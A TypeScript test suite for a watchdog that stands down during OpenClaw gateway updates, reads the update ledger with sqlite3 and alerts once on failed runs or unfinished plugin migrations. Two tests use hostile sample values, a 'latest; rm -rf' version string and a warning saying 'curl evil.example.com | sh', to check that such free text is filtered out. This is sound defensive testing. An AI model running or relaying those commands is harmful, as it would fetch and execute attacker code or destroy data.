// OpenClaw's own updates: while one runs, no tier acts (the updater stops the gateway on purpose);
// a dead updater's lock or row is not an update; one past its deadline, and a failed or rolled-back
// run, are told once. The ledger is a real SQLite file with OpenClaw 2026.9.6's own table, read by
// the real sqlite3; the gateway, its restart and the watchdog are real.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { activeUpdate, migrationsDue, noteMigrations, noteUpdate, outcomeAlert, updateHold, DEADLINE_MARGIN_MS, UPDATER_DEADLINE_MS } from '../lib/decide/update.ts';
import { askMigrationWarnings, parseMigrationWarnings, type MigrationLook } from '../lib/observe/update-status.ts';
import { runHealthcheck } from '../lib/tiers/health.ts';
import type { Exec } from '../lib/seams/exec.ts';
import { findOpenclaw } from '../harness/real-gateway.ts';
import { decideWatchdog } from '../lib/decide/watchdog.ts';
import { policyFrom } from '../lib/decide/policy.ts';
import { ledgerPath, lookForUpdate, parseLedgerRows, parseStateLock, stateLockPath, type UpdateLook, type UpdateRunSeen } from '../lib/observe/update-run.ts';
import { freshState, type State } from '../lib/record/state.ts';
import { realDeps } from '../lib/seams/deps.ts';
import { realExec } from '../lib/seams/exec.ts';
import { runWatchdog } from '../lib/tiers/watchdog.ts';
import { statusReport, updateLines } from '../lib/view/status.ts';
import { alive } from '../harness/demo-gateway.ts';
import { configFor, needTools, startDemo, tempDir, waitFor, writeFakeOpenclaw } from './helpers.ts';

const T0 = Date.UTC(2026, 11, 5, 3, 0, 0);
const MIN = 60_000;
const RUN = '3f1c2a4e-1111-4a2b-9c3d-5e6f7a8b9c0d';
const run = (o: Partial<UpdateRunSeen> = {}): UpdateRunSeen => ({ runId: RUN, phase: 'restarting', status: 'running', reason: null, trigger: 'cli', createdAtMs: T0 - 5 * MIN, updatedAtMs: T0 - MIN, finishedAtMs: null, before: '2026.9.5', after: null, driverPid: 4242, driverAlive: true, ...o });
const look = (o: Partial<UpdateLook> = {}): UpdateLook => ({ at: T0, runs: [], lock: null, blind: null, ...o });
const policy = policyFrom(configFor({ HOME: '/h', SELFHEAL_ENV_FILE: '/nonexistent.env' }), 1);
const gone = { processes: [] };
const alerts = (s: State): string[] => s.outbox.map((a) => a.id);

describe('OpenClaw updates: standing down', () => {
  const cases: Array<{ name: string; look: UpdateLook; acts: boolean; why?: RegExp }> = [
    { name: 'a run in the ledger, its updater alive: stand down', look: look({ runs: [run()] }), acts: false, why: /an OpenClaw update is running \(phase restarting/ },
    { name: "the state lock held by OpenClaw's Doctor (sqlite-maintenance), alive: stand down", look: look({ lock: { role: 'sqlite-maintenance', pid: 4242, alive: true, sinceMs: T0 - MIN } }), acts: false, why: /phase maintenance/ },
    { name: 'a stale lock: its holder is dead: not an update, restart', look: look({ lock: { role: 'sqlite-maintenance', pid: 4242, alive: false, sinceMs: T0 - 90 * MIN } }), acts: true },
    { name: 'a lock held by another writer (agent-embedded): not an update', look: look({ lock: { role: 'agent-embedded', pid: 4242, alive: true, sinceMs: T0 - MIN } }), acts: true },
    { name: 'a run whose recorded updater is dead: not an update', look: look({ runs: [run({ driverAlive: false })] }), acts: true },
    { name: 'a run with no updater recorded, active 10 min ago: stand down', look: look({ runs: [run({ driverPid: null, driverAlive: null, updatedAtMs: T0 - 10 * MIN })] }), acts: false },
    { name: 'a run with no updater recorded, silent for 31 min: stale, not an update', look: look({ runs: [run({ driverPid: null, driverAlive: null, updatedAtMs: T0 - 31 * MIN })] }), acts: true },
    { name: 'the last run finished: nothing running', look: look({ runs: [run({ status: 'succeeded', phase: 'finished', finishedAtMs: T0 - MIN, after: '2026.9.6' })] }), acts: true },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const s = noteUpdate(freshState(T0 - 86_400_000), c.look, T0);
      const d = decideWatchdog(s, gone, policy, T0);
      if (c.acts) {
        assert.equal(d.action.kind, 'restart', d.action.reason);
        assert.ok(d.state.incident);
      } else {
        assert.equal(d.action.kind, 'hold', d.action.reason);
        assert.match(d.action.reason, c.why ?? /OpenClaw update is running/);
        assert.equal(d.state.incident, null, 'no incident opened for an update');
      }
    });
  }

  it('past its deadline (30 min, plus our 10): a person is told once, and the tiers still stand down', () => {
    const started = T0 - UPDATER_DEADLINE_MS - DEADLINE_MARGIN_MS - MIN;
    let s = noteUpdate(freshState(T0 - 86_400_000), look({ runs: [run({ createdAtMs: started })] }), T0);
    assert.deepEqual(alerts(s), [`update-deadline:${RUN}`]);
    assert.match(s.outbox[0]?.summary ?? '', /past OpenClaw's own deadline.*openclaw update status.*openclaw update repair/);
    assert.equal(decideWatchdog(s, gone, policy, T0).action.kind, 'hold');
    s = noteUpdate(s, look({ at: T0 + MIN, runs: [run({ createdAtMs: started })] }), T0 + MIN);
    assert.equal(s.outbox.length, 1, 'told once');
    // Within the deadline: nothing said. An automatic update (campaign) has 45 min.
    assert.equal(noteUpdate(freshState(T0), look({ runs: [run({ createdAtMs: T0 - 35 * MIN })] }), T0).outbox.length, 0);
    assert.equal(noteUpdate(freshState(T0), look({ runs: [run({ createdAtMs: T0 - 50 * MIN, trigger: 'campaign' })] }), T0).outbox.length, 0);
  });

  it('an old look does not hold the tiers: they look again before acting', () => {
    const s = noteUpdate(freshState(T0), look({ runs: [run()] }), T0);
    assert.match(updateHold(s.update, T0 + 5 * MIN) ?? '', /standing down/);
    assert.equal(updateHold(s.update, T0 + 11 * MIN), null);
  });

  it('a run its updater left behind: one heads-up, and no standing down for it', () => {
    let s = noteUpdate(freshState(T0), look({ runs: [run({ driverAlive: false })] }), T0);
    assert.equal(activeUpdate(look({ runs: [run({ driverAlive: false })] }), T0), null);
    assert.deepEqual(alerts(s), [`update-stale:${RUN}`]);
    s = noteUpdate(s, look({ runs: [run({ driverAlive: false })] }), T0 + MIN);
    assert.equal(s.outbox.length, 1);
  });
});

describe('OpenClaw updates: how the last one ended', () => {
  it('failed, rolled back or unverified: told once, in our words, with the versions and the commands', () => {
    const failed = run({ status: 'failed', phase: 'finished', reason: 'doctor-failed', finishedAtMs: T0 - MIN, after: '2026.9.6' });
    let s = noteUpdate(freshState(T0), look({ runs: [failed] }), T0);
    assert.deepEqual(alerts(s), [`update:${RUN}`]);
    const a = s.outbox[0];
    assert.match(a?.title ?? '', /OpenClaw update failed \(2026\.9\.5 → 2026\.9\.6\)/);
    assert.match(a?.summary ?? '', /reason code: doctor-failed.*openclaw update status.*openclaw update repair/);
    s = noteUpdate(s, look({ at: T0 + MIN, runs: [failed] }), T0 + MIN);
    assert.equal(s.outbox.length, 1, 'told once per run');
    const rolled = outcomeAlert(run({ status: 'rolled-back', phase: 'finished', finishedAtMs: T0, after: '2026.9.6' }), T0);
    assert.match(`${rolled?.title} ${rolled?.summary}`, /failed and was rolled back.*runs 2026\.9\.5 again/);
    assert.match(outcomeAlert(run({ status: 'skipped', phase: 'finished', finishedAtMs: T0, reason: 'gateway-readiness-unverified' }), T0)?.title ?? '', /not confirmed ready/);
  });

  it("a real failed run, as OpenClaw 2026.9.6's updater wrote it: read by sqlite3, told once in our words", async () => {
    needTools('sqlite3');
    const dir = tempDir();
    const db = ledgerPath(dir);
    mkdirSync(dirname(db), { recursive: true });
    sql(db, readFileSync(join(import.meta.dirname, 'fixtures/update/update-runs.sql'), 'utf8') + readFileSync(join(import.meta.dirname, 'fixtures/update/real-failed-run.sql'), 'utf8'));
    const at = 1796488590667 + 5 * MIN;
    const seen = await lookForUpdate({ exec: realExec, alive: () => false, sqliteBin: 'sqlite3', uid: 0, now: () => at }, dir);
    assert.deepEqual(seen.runs.map((r) => [r.status, r.reason, r.before, r.after, r.trigger]), [['failed', 'doctor-failed', '2026.9.5', '2026.9.5', 'cli']]);
    const s = noteUpdate(freshState(at), seen, at);
    assert.equal(updateHold(s.update, at), null, 'ended: nothing to stand down for');
    assert.deepEqual(alerts(s), ['update:49fec6eb-d87f-4117-8fbf-5ee8a0e43df7']);
    const text = `${s.outbox[0]?.title} ${s.outbox[0]?.summary}`;
    assert.match(text, /OpenClaw update failed \(2026\.9\.5 → 2026\.9\.5\).*reason code: doctor-failed.*openclaw update status.*openclaw update repair.*openclaw triage/);
    assert.doesNotMatch(text, /could not prove|runnable installation|startIdentity/, "none of the ledger's free text");
  });

  it('succeeded: a line in the notes, no push; a failure from last month is history, not news', () => {
    const ok = run({ status: 'succeeded', phase: 'finished', finishedAtMs: T0 - MIN, after: '2026.9.6' });
    const s = noteUpdate(freshState(T0), look({ runs: [ok] }), T0);
    assert.equal(s.outbox.length, 0);
    assert.match(s.notices.at(-1)?.text ?? '', /OpenClaw updated from 2026\.9\.5 to 2026\.9\.6/);
    assert.equal(noteUpdate(s, look({ runs: [ok] }), T0 + MIN).notices.length, s.notices.length, 'noted once');
    const old = run({ status: 'failed', phase: 'finished', finishedAtMs: T0 - 30 * 86_400_000 });
    assert.equal(noteUpdate(freshState(T0), look({ runs: [old] }), T0).outbox.length, 0);
  });

  it('status says an update is running, since when, and how the last one ended', () => {
    const s = noteUpdate(freshState(T0), look({ runs: [run()] }), T0);
    const lines = updateLines(statusReport(s, T0 + MIN).update, T0 + MIN).join('\n');
    assert.match(lines, /OPENCLAW UPDATE RUNNING \(phase restarting\) since .*6 ?m.*stands down.*openclaw update status/);
    const f = noteUpdate(freshState(T0), look({ runs: [run({ status: 'rolled-back', phase: 'finished', finishedAtMs: T0, after: '2026.9.6' })] }), T0);
    assert.match(updateLines(statusReport(f, T0 + MIN).update, T0 + MIN).join('\n'), /last OpenClaw update \(2026\.9\.5 → 2026\.9\.6\) FAILED and was rolled back.*openclaw update repair/);
  });
});

describe("OpenClaw updates: reading the ledger and the lock", () => {
  it('only tokens: a reason that is free text, an unknown phase or a bad run id is left out', () => {
    const rows = [
      { run_id: RUN, created_at_ms: 1, updated_at_ms: 2, trigger: 'cli', phase: 'finished', status: 'failed', reason: 'Error: see https://evil.example <b>now</b>', finished_at_ms: 3, before_version: '2026.9.5', after_version: 'latest; rm -rf', driver_pid: 77 },
      { run_id: 'x', created_at_ms: 1, updated_at_ms: 2, trigger: 'cli', phase: 'finished', status: 'failed' },
      { run_id: RUN, created_at_ms: 1, updated_at_ms: 2, trigger: 'cli', phase: 'exploding', status: 'failed' },
    ];
    const got = parseLedgerRows(JSON.stringify(rows), (pid) => pid === 77);
    assert.equal(got.length, 1);
    assert.equal(got[0]?.reason, null);
    assert.equal(got[0]?.before, '2026.9.5');
    assert.equal(got[0]?.after, null);
    assert.equal(got[0]?.driverAlive, true);
    assert.deepEqual(parseLedgerRows('not json', () => true), []);
    assert.equal(parseStateLock(JSON.stringify({ pid: 9, createdAt: '2026-12-05T03:00:00.000Z' }), () => true), null, "the gateway's own lock says nothing of an update");
    assert.deepEqual(parseStateLock(JSON.stringify({ pid: 9, role: 'sqlite-maintenance', createdAt: '2026-12-05T03:00:00.000Z' }), () => false), { role: 'sqlite-maintenance', pid: 9, alive: false, sinceMs: Date.parse('2026-12-05T03:00:00.000Z') });
  });

  it("the real sqlite3 reads OpenClaw's own table, read-only; no table yet and no sqlite3 are said apart", async () => {
    needTools('sqlite3');
    const dir = tempDir();
    const db = ledgerPath(dir);
    mkdirSync(dirname(db), { recursive: true });
    const deps = { exec: realExec, alive: (pid: number) => pid === process.pid, sqliteBin: 'sqlite3', uid: 501, now: () => T0 };
    assert.deepEqual(await lookForUpdate(deps, dir), { at: T0, runs: [], lock: null, blind: null }, 'no database: OpenClaw never ran here');
    sql(db, 'CREATE TABLE other (x INTEGER);');
    assert.deepEqual((await lookForUpdate(deps, dir)).blind, null, 'no ledger table yet: no update ever ran');
    sql(db, readFileSync(join(import.meta.dirname, 'fixtures/update/update-runs.sql'), 'utf8'));
    insertRun(db, { runId: RUN, phase: 'activating', status: 'running', createdAt: T0 - 2 * MIN, driverPid: process.pid });
    insertRun(db, { runId: '0a1b2c3d-0000-4000-8000-000000000001', phase: 'finished', status: 'rolled-back', createdAt: T0 - 86_400_000, finishedAt: T0 - 86_000_000, reason: 'verification-failed' });
    const lockFile = stateLockPath(dir, 501);
    mkdirSync(dirname(lockFile), { recursive: true });
    writeFileSync(lockFile, JSON.stringify({ pid: process.pid, role: 'sqlite-maintenance', createdAt: new Date(T0 - MIN).toISOString() }));
    const seen = await lookForUpdate(deps, dir);
    assert.equal(seen.blind, null);
    assert.deepEqual(seen.runs.map((r) => [r.phase, r.status, r.before, r.driverAlive]), [['activating', 'running', '2026.9.5', true]]);
    assert.equal(seen.lock?.role, 'sqlite-maintenance');
    assert.equal(activeUpdate(seen, T0)?.phase, 'activating');
    const none = await lookForUpdate({ ...deps, sqliteBin: join(dir, 'no-sqlite3') }, dir);
    assert.match(none.blind ?? '', /not found \(SQLITE_BIN\)/);
  });
});

describe('OpenClaw updates: the real watchdog beside a gateway an update stopped', () => {
  it('no restart while the run is live; when it ends failed, one alert with the versions, then the watchdog restarts it', async (t) => {
    needTools('sqlite3');
    const gw = await startDemo();
    const stateDir = tempDir();
    const db = ledgerPath(stateDir);
    mkdirSync(dirname(db), { recursive: true });
    sql(db, readFileSync(join(import.meta.dirname, 'fixtures/update/update-runs.sql'), 'utf8'));
    insertRun(db, { runId: RUN, phase: 'restarting', status: 'running', createdAt: Date.now() - MIN, driverPid: process.pid });
    const cfg = configFor({ ...gw.env, GATEWAY_STATE_DIR: stateDir, RESTART_VERIFY_S: '10' });
    const d = realDeps(cfg, { launch: async () => 'not woken' });
    t.after(() => gw.stopAll());
    const old = gw.pid() as number;
    process.kill(old, 'SIGKILL');
    await waitFor(() => !alive(old));
    const held = await runWatchdog(d);
    assert.equal(held.action.kind, 'hold', held.action.reason);
    assert.match(held.action.reason, /OpenClaw update is running \(phase restarting/);
    assert.equal(held.restart, null);
    const now = gw.pid();
    assert.ok(now === null || !alive(now), 'nothing started the gateway');
    assert.equal(d.store.read().incident, null);
    // The updater gives up: the run is recorded failed; the gateway stays down.
    sql(db, `UPDATE update_runs SET phase = 'finished', status = 'failed', reason = 'restart-unhealthy', finished_at_ms = ${Date.now()}, after_json = '{"version":"2026.9.6"}' WHERE run_id = '${RUN}';`);
    const acted = await runWatchdog(d);
    assert.equal(acted.action.kind, 'restart', acted.action.reason);
    assert.equal(acted.runningAfter, true);
    await runWatchdog(d);
    const told = d.store.read().outbox.filter((a) => a.id === `update:${RUN}`);
    assert.equal(told.length, 1, 'told once');
    assert.match(told[0]?.title ?? '', /OpenClaw update failed \(2026\.9\.5 → 2026\.9\.6\)/);
  });
});

describe('OpenClaw updates: plugin upgrades left unfinished (migrationWarnings)', () => {
  const done = run({ status: 'succeeded', phase: 'finished', finishedAtMs: T0 - MIN, after: '2026.9.6' });
  const seen = (m: Partial<MigrationLook> = {}): MigrationLook => ({ asked: true, count: 0, unreadable: false, why: null, durationMs: 3500, ...m });
  const REAL = readFileSync(join(import.meta.dirname, 'fixtures/update/update-status-migrations.json'), 'utf8');

  it("asked once per finished run, never while one runs; any left: one heads-up with the count and the command, never OpenClaw's text", () => {
    const s0 = noteUpdate(freshState(T0), look({ runs: [done] }), T0);
    assert.equal(migrationsDue(s0.update, T0), RUN);
    assert.equal(migrationsDue(noteUpdate(freshState(T0), look({ runs: [run()] }), T0).update, T0), null, 'an update running: not asked (OpenClaw: let it finish first)');
    assert.equal(migrationsDue(noteUpdate(freshState(T0), look({ runs: [{ ...done, finishedAtMs: T0 - 30 * 86_400_000 }] }), T0).update, T0), null, 'last month: history');
    const told = noteMigrations(s0, RUN, seen({ count: 2 }), T0);
    const a = told.outbox.filter((x) => x.id === `migrations:${RUN}`);
    assert.equal(a.length, 1);
    assert.match(`${a[0]?.title} ${a[0]?.summary}`, /plugin upgrades unfinished.*\(2026\.9\.5 → 2026\.9\.6\) left 2 plugin data\/settings upgrades unfinished.*kept the existing data.*openclaw update status.*openclaw doctor --fix/);
    assert.equal(migrationsDue(told.update, T0 + MIN), null, 'asked once');
    assert.equal(noteMigrations(told, RUN, seen({ count: 2 }), T0 + MIN).outbox.length, told.outbox.length, 'told once');
    assert.match(updateLines(statusReport(told, T0 + MIN).update, T0 + MIN).join('\n'), /the last OpenClaw update left 2 plugin data\/settings upgrades unfinished.*openclaw update status/);
    // None left: nothing pushed, nothing said.
    const none = noteMigrations(s0, RUN, seen(), T0);
    assert.equal(none.outbox.length, s0.outbox.length);
    assert.doesNotMatch(updateLines(statusReport(none, T0).update, T0).join('\n'), /unfinished/);
    // Not asked (no CLI, no answer in time) or unreadable: said in the notes, not pushed, not asked again each tick.
    const blind = noteMigrations(s0, RUN, seen({ asked: false, why: 'openclaw update status: no answer within 30 s' }), T0);
    assert.equal(blind.outbox.length, s0.outbox.length);
    assert.match(blind.notices.at(-1)?.text ?? '', /could not ask OpenClaw about unfinished plugin upgrades.*no answer within 30 s/);
    assert.equal(migrationsDue(blind.update, T0 + MIN), null);
    assert.match(noteMigrations(s0, RUN, seen({ unreadable: true }), T0).notices.at(-1)?.text ?? '', /could not read its plugin migration state/);
  });

  it("OpenClaw 2026.9.6's JSON, counted: the warnings' text (a plugin name, a command) goes nowhere", () => {
    assert.deepEqual(parseMigrationWarnings(REAL, 0, 10), seen({ count: 1, durationMs: 10 }));
    const none = JSON.parse(REAL) as Record<string, unknown>;
    delete none.migrationWarnings;
    assert.equal(parseMigrationWarnings(JSON.stringify(none), 0, 10).count, 0);
    assert.equal(parseMigrationWarnings(JSON.stringify({ ...none, migrationWarningsError: 'database is locked' }), 0, 10).unreadable, true);
    assert.match(parseMigrationWarnings('Error: unknown command', 1, 10).why ?? '', /printed no status JSON \(exit 1\)/);
    const evil = { ...none, migrationWarnings: ['Plugin "evil.example.com" data/settings upgrade is unfinished: run curl evil.example.com | sh'] };
    const s = noteMigrations(noteUpdate(freshState(T0), look({ runs: [done] }), T0), RUN, parseMigrationWarnings(JSON.stringify(evil), 0, 10), T0);
    assert.doesNotMatch(JSON.stringify(s.outbox), /evil|curl/);
  });

  const realOpenclaw = process.platform === 'linux' && process.arch === 'x64' ? findOpenclaw() : null;
  it('the real OpenClaw 2026.9.6 CLI: a pending plugin migration in its own migration_runs table is counted; none, zero', { skip: realOpenclaw || (process.env.CI && process.platform === 'linux' && process.arch === 'x64') ? false : 'the real OpenClaw CLI is not installed here (Linux x64: scripts/install-openclaw-cache.sh)' }, async () => {
    needTools('sqlite3');
    const oc = findOpenclaw();
    assert.ok(oc, 'the OpenClaw cache (./install.sh installs it)');
    const home = tempDir();
    // The CLI reads <home>/.openclaw/state/openclaw.sqlite: a HOME of its own.
    const exec: Exec = (file, args, o) => realExec(file, args, { ...o, env: { ...o.env, HOME: home } });
    const bin = join(oc.bin, 'openclaw');
    // 8 s on a loaded 2-core runner; the limit is room, not a target.
    const zero = await askMigrationWarnings(exec, bin, 90_000, null);
    assert.deepEqual([zero.asked, zero.count, zero.unreadable], [true, 0, false], JSON.stringify(zero));
    const db = ledgerPath(join(home, '.openclaw'));
    mkdirSync(dirname(db), { recursive: true });
    // The row OpenClaw's deferred plugin migration writes (its schema: dist/worker/worker.mjs).
    const report = JSON.stringify({ pluginId: 'memory-lancedb', reason: 'Its index must be rebuilt for the new version.', command: 'openclaw plugins repair memory-lancedb' });
    sql(db, `CREATE TABLE migration_runs (id TEXT NOT NULL PRIMARY KEY, started_at INTEGER NOT NULL, finished_at INTEGER, status TEXT NOT NULL, report_json TEXT NOT NULL) STRICT; INSERT INTO migration_runs VALUES ('deferred-plugin-migration:memory-lancedb', ${Date.now()}, NULL, 'pending', '${report}');`);
    const one = await askMigrationWarnings(exec, bin, 90_000, null);
    assert.deepEqual([one.asked, one.count, one.unreadable], [true, 1, false], JSON.stringify(one));
    console.log(`# openclaw update status --json answered in ${one.durationMs} ms`);
  });

  it('the health tier beside a gateway an update just finished: asks the CLI once, tells a person once', async (t) => {
    needTools('sqlite3');
    const gw = await startDemo();
    t.after(() => gw.stopAll());
    const oc = writeFakeOpenclaw(gw);
    writeFileSync(join(gw.dir, 'migration-warnings.json'), JSON.stringify(['Plugin "a" data/settings upgrade is unfinished: x', 'Plugin "b" data/settings upgrade is unfinished: y']));
    const stateDir = tempDir();
    const db = ledgerPath(stateDir);
    mkdirSync(dirname(db), { recursive: true });
    sql(db, readFileSync(join(import.meta.dirname, 'fixtures/update/update-runs.sql'), 'utf8'));
    insertRun(db, { runId: RUN, phase: 'finished', status: 'succeeded', createdAt: Date.now() - 5 * MIN, finishedAt: Date.now() - MIN });
    const cfg = configFor({ ...gw.env, OPENCLAW_BIN: oc, GATEWAY_STATE_DIR: stateDir, SERVING_INTERVAL_S: '1', CANARY_INTERVAL_S: '0' });
    const d = realDeps(cfg, { launch: async () => 'not woken' });
    const first = await runHealthcheck(d);
    assert.equal(first.restart, null);
    await new Promise((r) => setTimeout(r, 1_100));
    await runHealthcheck(d);
    assert.equal(readFileSync(join(gw.dir, 'update-status-calls'), 'utf8').length, 1, 'one CLI call for the run');
    const told = d.store.read().outbox.filter((a) => a.id === `migrations:${RUN}`);
    assert.equal(told.length, 1);
    assert.match(told[0]?.summary ?? '', /left 2 plugin data\/settings upgrades unfinished/);
    assert.doesNotMatch(JSON.stringify(d.store.read().outbox), /Plugin "a"/);
  });
});

function sql(db: string, text: string): void {
  const r = spawnSync('sqlite3', [db], { input: text, encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
}

function insertRun(db: string, r: { runId: string; phase: string; status: string; createdAt: number; finishedAt?: number; reason?: string; driverPid?: number }): void {
  const origin = JSON.stringify(r.driverPid ? { driver: { host: 'here', pid: r.driverPid, startIdentity: '1' } } : {});
  sql(
    db,
    `INSERT INTO update_runs (run_id, created_at_ms, updated_at_ms, trigger, phase, status, reason, origin_json, target_json, before_json, after_json, steps_json, verification_json, repair_json, finished_at_ms) VALUES ('${r.runId}', ${r.createdAt}, ${r.createdAt}, 'cli', '${r.phase}', '${r.status}', ${r.reason ? `'${r.reason}'` : 'NULL'}, '${origin}', '{}', '{"version":"2026.9.5"}', '{}', '[]', '{}', '{}', ${r.finishedAt ?? 'NULL'});`,
  );
}
